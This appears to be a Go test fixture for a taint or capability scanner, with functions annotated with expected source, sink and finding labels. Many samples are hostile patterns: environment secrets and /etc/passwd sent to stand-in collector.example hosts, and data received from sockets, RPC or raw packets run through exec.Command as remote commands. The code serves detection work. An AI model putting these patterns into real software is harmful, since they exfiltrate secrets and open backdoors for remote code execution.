// Sockets, TLS, packets, RPC and remote shells over plain connections.
package models

import (
	"bufio"
	"context"
	"crypto/tls"
	"io"
	"net"
	"net/http"
	"net/rpc"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/pcap"
)

const U = "https://collector.example/u?"

func dialled() {
	c, _ := net.Dial("tcp", "tcp.collector.example:443") //~ capability(NETWORK), endpoint("tcp.collector.example:443")
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f1, sink(egress.socket) f1, finding(traced) f1
}

func dialledRead() {
	c, _ := net.Dial("tcp", "tcp.collector.example:443") //~ source(NETWORK) f2
	b, _ := io.ReadAll(c)
	exec.Command(string(b)).Run() //~ sink(exec.command) f2, finding(traced) f2
}

func dialledConstant() {
	c, _ := net.Dial("tcp", "tcp.collector.example:443") //~ ok
	c.Write([]byte("ping")) //~ ok
}

func dialledAddress() {
	a, _ := net.ResolveUDPAddr("udp", "udp.collector.example:53")
	c, _ := net.DialUDP("udp", nil, a) //~ capability(NETWORK)
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f4, sink(egress.socket) f4, finding(traced) f4
}

func dialledAddressConstant(a *net.UDPAddr) {
	c, _ := net.DialUDP("udp", nil, a) //~ ok
	c.Write([]byte("ping")) //~ ok
}

func dialledBy(d *net.Dialer) {
	c, _ := tls.DialWithDialer(d, "tcp", "tls.collector.example:443", nil) //~ capability(NETWORK), endpoint("tls.collector.example:443")
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f6, sink(egress.socket) f6, finding(traced) f6
}

func dialledByConstant(d *net.Dialer) {
	c, _ := tls.DialWithDialer(d, "tcp", "tls.collector.example:443", nil) //~ ok
	c.Write([]byte("ping")) //~ ok
}

func dialer(d net.Dialer) {
	c, _ := d.Dial("tcp", "dialer.collector.example:443") //~ capability(NETWORK), endpoint("dialer.collector.example:443")
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f8, sink(egress.socket) f8, finding(traced) f8
}

func dialerConstant(d net.Dialer) {
	c, _ := d.Dial("tcp", "dialer.collector.example:443") //~ ok
	c.Write([]byte("ping")) //~ ok
}

func dialerContext(d net.Dialer, ctx context.Context) {
	c, _ := d.DialContext(ctx, "tcp", "context.collector.example:443") //~ capability(NETWORK), endpoint("context.collector.example:443")
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f10, sink(egress.socket) f10, finding(traced) f10
}

func dialerContextConstant(d net.Dialer, ctx context.Context) {
	c, _ := d.DialContext(ctx, "tcp", "context.collector.example:443") //~ ok
	c.Write([]byte("ping")) //~ ok
}

func dialledLocal(a *net.UnixAddr) {
	c, _ := net.DialUnix("unix", nil, a) //~ capability(IPC)
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f12, sink(egress.ipc) f12, finding(traced) f12
}

func dialledLocalConstant(a *net.UnixAddr) {
	c, _ := net.DialUnix("unix", nil, a) //~ ok
	c.Write([]byte("ping")) //~ ok
}

func local(c *net.UnixConn) {
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f14, sink(egress.ipc) f14, finding(traced) f14, capability(IPC)
}

func localConstant(c *net.UnixConn) {
	c.Write([]byte("ping")) //~ ok
}

func listened() {
	l, _ := net.Listen("tcp", ":80") //~ capability(NETWORK)
	c, _ := l.Accept() //~ source(NETWORK) f16
	b, _ := io.ReadAll(c)
	exec.Command(string(b)).Run() //~ sink(exec.command) f16, finding(traced) f16
}

func listenedOnly() {
	l, _ := net.Listen("tcp", ":80") //~ ok
	l.Close()
}

func accepted(l net.Listener) {
	c, _ := l.Accept() //~ capability(NETWORK)
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f18, sink(egress.socket) f18, finding(traced) f18
}

func acceptedConstant(l net.Listener) {
	c, _ := l.Accept() //~ ok
	c.Write([]byte("ping")) //~ ok
}

func packets(a net.Addr) {
	p, _ := net.ListenPacket("udp", ":0") //~ capability(NETWORK)
	p.WriteTo([]byte(os.Getenv("T")), a) //~ source(ENVIRONMENT) f20, sink(egress.socket) f20, finding(traced) f20
}

func packetsConstant(a net.Addr) {
	p, _ := net.ListenPacket("udp", ":0") //~ ok
	p.WriteTo([]byte("ping"), a) //~ ok
}

func sent(c net.Conn) {
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f22, sink(egress.socket) f22, finding(traced) f22, capability(NETWORK)
}

func sentConstant(c net.Conn) {
	c.Write([]byte("ping")) //~ ok
}

func sentTo(c net.PacketConn, a net.Addr) {
	c.WriteTo([]byte(os.Getenv("T")), a) //~ source(ENVIRONMENT) f24, sink(egress.socket) f24, finding(traced) f24, capability(NETWORK)
}

func sentToConstant(c net.PacketConn, a net.Addr) {
	c.WriteTo([]byte("ping"), a) //~ ok
}

func sentFrom(c *net.TCPConn) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f26
	c.ReadFrom(f) //~ sink(egress.socket) f26, finding(traced) f26, capability(NETWORK)
}

func sentFromConstant(c *net.TCPConn) {
	c.ReadFrom(strings.NewReader("ping")) //~ ok
}

func received(c net.Conn) {
	b := make([]byte, 64)
	n, _ := c.Read(b) //~ source(NETWORK) f28, capability(NETWORK)
	exec.Command(string(b[:n])).Run() //~ sink(exec.command) f28, finding(traced) f28
}

func receivedUnused(c net.Conn) {
	c.Read(make([]byte, 64)) //~ ok
}

func receivedLine(c net.Conn) {
	line, _ := bufio.NewReader(c).ReadString('\n') //~ source(NETWORK) f30, capability(NETWORK)
	exec.Command(line).Run() //~ sink(exec.command) f30, finding(traced) f30
}

func receivedLineUnused(c net.Conn) {
	bufio.NewReader(c).ReadString('\n') //~ ok
}

func receivedAll(c net.Conn) {
	b, _ := io.ReadAll(c) //~ source(NETWORK) f32
	exec.Command(string(b)).Run() //~ sink(exec.command) f32, finding(traced) f32
}

func receivedAllUnused(c net.Conn) {
	io.ReadAll(c) //~ ok
}

func receivedLines(c net.Conn) {
	s := bufio.NewScanner(c) //~ source(NETWORK) f34
	for s.Scan() {
		exec.Command(s.Text()).Run() //~ sink(exec.command) f34, finding(traced) f34
	}
}

func receivedLinesUnused(c net.Conn) {
	bufio.NewScanner(c) //~ ok
}

func closedConnection() {
	c, _ := net.Dial("tcp", "tcp.collector.example:443")
	err := c.SetDeadline(time.Time{}) //~ ok
	exec.Command(err.Error()).Run() //~ ok
}

func ownAddress(c net.Conn) {
	http.Get(U + c.LocalAddr().String()) //~ source(DEVICE) f37, sink(egress.http) f37, finding(assumed) f37, capability(DEVICE)
}

func ownAddressUnused(c net.Conn) {
	c.LocalAddr() //~ ok
}

func secured(c net.Conn) {
	s := tls.Client(c, &tls.Config{}) //~ capability(NETWORK)
	s.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f39, sink(egress.socket) f39, finding(traced) f39
}

func securedConstant(c net.Conn) {
	s := tls.Client(c, &tls.Config{}) //~ ok
	s.Write([]byte("ping")) //~ ok
}

func resolved() {
	net.ResolveTCPAddr("tcp", "resolve.collector.example:443") //~ capability(DNS)
}

func resolvedConstant() {
	a, _ := net.ResolveTCPAddr("tcp", "resolve.collector.example:443") //~ ok
	http.Get(U + a.String()) //~ ok
}

func hostJoined() {
	http.Get("https://" + net.JoinHostPort(os.Getenv("T"), "443")) //~ source(ENVIRONMENT) f43, sink(egress.http) f43, finding(traced) f43
	http.Get("https://" + net.JoinHostPort("collector.example", "443")) //~ ok
}

func hostSplit() {
	h, _, _ := net.SplitHostPort(os.Getenv("T")) //~ source(ENVIRONMENT) f44
	http.Get(U + h) //~ sink(egress.http) f44, finding(traced) f44
}

func hostSplitConstant() {
	h, _, _ := net.SplitHostPort("a:1") //~ ok
	http.Get(U + h) //~ ok
}

func localPair() {
	net.Pipe() //~ capability(IPC)
}

func localPairUnused() {
	net.Pipe() //~ ok
}

func rawSent(fd int, a syscall.Sockaddr) {
	syscall.Sendto(fd, []byte(os.Getenv("T")), 0, a) //~ source(ENVIRONMENT) f48, sink(egress.socket) f48, finding(traced) f48, capability(NETWORK)
}

func rawSentConstant(fd int, a syscall.Sockaddr) {
	syscall.Sendto(fd, []byte("ping"), 0, a) //~ ok
}

func rawReceived(fd int) {
	b := make([]byte, 64)
	syscall.Recvfrom(fd, b, 0) //~ source(NETWORK) f50, capability(NETWORK)
	exec.Command(string(b)).Run() //~ sink(exec.command) f50, finding(traced) f50
}

func rawReceivedUnused(fd int) {
	syscall.Recvfrom(fd, make([]byte, 64), 0) //~ ok
}

func rawFile(fd int) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f52
	syscall.Sendfile(fd, int(f.Fd()), nil, 64) //~ sink(egress.socket) f52, MISSING: finding(traced) f52
}

func rawFileDescriptor(fd int) {
	in, _ := syscall.Open("/etc/passwd", 0, 0) //~ source(FILE) f53
	syscall.Sendfile(fd, in, nil, 64) //~ sink(egress.socket) f53, finding(traced) f53, capability(NETWORK)
}

func rawFileConstant(fd int) {
	syscall.Sendfile(fd, 0, nil, 64) //~ ok
}

func rawOpened(fd int) {
	in, _ := syscall.Open("/etc/passwd", 0, 0) //~ source(FILE) f55, capability(FILES)
	syscall.Sendfile(fd, in, nil, 64) //~ sink(egress.socket) f55, finding(traced) f55
}

func rawOpenedOnly() {
	syscall.Open("/etc/passwd", 0, 0) //~ ok
}

func rawRead(c net.Conn) {
	in, _ := syscall.Open("/etc/passwd", 0, 0) //~ source(FILE) f57
	b := make([]byte, 64)
	syscall.Read(in, b)
	c.Write(b) //~ sink(egress.socket) f57, finding(traced) f57
}

func rawReadConstant(c net.Conn) {
	b := make([]byte, 64)
	syscall.Read(0, b) //~ ok
	c.Write(b) //~ ok
}

func procedure() {
	c, _ := rpc.Dial("tcp", "rpc.collector.example:80") //~ capability(NETWORK), endpoint("rpc.collector.example:80")
	c.Call("Put", os.Getenv("T"), nil) //~ source(ENVIRONMENT) f59, sink(egress.message) f59, finding(traced) f59
}

func procedureConstant() {
	c, _ := rpc.Dial("tcp", "rpc.collector.example:80") //~ ok
	c.Call("Put", "ping", nil) //~ ok
}

func procedureCalled(c *rpc.Client) {
	c.Call("Put", os.Getenv("T"), nil) //~ source(ENVIRONMENT) f61, sink(egress.message) f61, finding(traced) f61, capability(NETWORK)
}

func procedureAnswer(c *rpc.Client) {
	var answer string
	c.Call("Next", 1, &answer) //~ source(NETWORK) f62
	exec.Command(answer).Run() //~ sink(exec.command) f62, finding(traced) f62
}

func procedureCalledConstant(c *rpc.Client) {
	c.Call("Put", "ping", nil) //~ ok
}

func packetSent(h *pcap.Handle) {
	h.WritePacketData([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f64, sink(egress.socket) f64, finding(traced) f64, capability(NETWORK)
}

func packetSentConstant(h *pcap.Handle) {
	h.WritePacketData([]byte("ping")) //~ ok
}

func packetRead(h *pcap.Handle) {
	b, _, _ := h.ReadPacketData() //~ source(NETWORK) f66, capability(NETWORK)
	exec.Command(string(b)).Run() //~ sink(exec.command) f66, finding(traced) f66
}

func packetReadUnused(h *pcap.Handle) {
	h.ReadPacketData() //~ ok
}

func captured() {
	h, _ := pcap.OpenLive("eth0", 1600, true, pcap.BlockForever) //~ capability(NETWORK)
	h.WritePacketData([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f68, sink(egress.socket) f68, finding(traced) f68
}

func capturedConstant() {
	h, _ := pcap.OpenLive("eth0", 1600, true, pcap.BlockForever) //~ ok
	h.WritePacketData([]byte("ping"))
}

func packetMade(h *pcap.Handle) {
	b, _, _ := h.ReadPacketData() //~ source(NETWORK) f70
	p := gopacket.NewPacket(b, nil, gopacket.Default)
	exec.Command(string(p.ApplicationLayer().Payload())).Run() //~ sink(exec.command) f70, finding(assumed) f70
	exec.Command(gopacket.NewPacket(b, nil, gopacket.Default)).Run() //~ sink(exec.command) f70, finding(traced) f70
}

func packetMadeConstant() {
	exec.Command(gopacket.NewPacket([]byte("a"), nil, gopacket.Default)).Run() //~ ok
}
